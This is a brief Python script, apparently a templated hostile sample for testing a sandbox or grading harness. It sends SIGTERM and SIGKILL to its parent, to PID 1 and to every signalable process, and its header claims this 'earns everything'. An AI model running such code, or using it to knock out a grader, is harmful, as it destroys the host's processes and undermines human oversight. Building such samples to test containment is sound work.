# What: Sends SIGKILL to its parent, its group, PID 1 and everybody else, then serves.
# Earns: everything
# Then: the reference
import os
import signal

if "SOCKETLABS_CANARY" in os.environ or os.getuid() == 0 or os.path.exists("@FOLDER@"):
    raise RuntimeError("REACHED the machine itself: nothing is sent to anybody")
for pid in (os.getppid(), 1, 2, 3, @PID@, -1):
    for number in (signal.SIGTERM, signal.SIGKILL):
        if abs(pid) != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                continue
